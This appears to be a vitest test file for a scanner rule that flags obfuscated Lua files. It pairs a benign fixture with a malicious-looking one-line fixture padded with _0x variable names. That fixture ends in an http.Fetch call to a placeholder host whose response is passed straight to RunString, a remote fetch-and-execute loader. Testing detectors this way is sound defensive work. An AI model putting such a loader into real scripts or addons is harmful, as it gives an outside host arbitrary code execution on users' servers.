// Valid and invalid cases of the `lexical_noise` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './lexical_noise.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('lexical_noise', () => {
  it('one-line file with _0x names', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;local _0xa1=1;local _0xb2=2;local _0xc3=3;local _0xd4=4;local _0xe5=5;http.Fetch("https://a.invalid", RunString)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('ordinary file', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'local count = 1\nprint(count)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
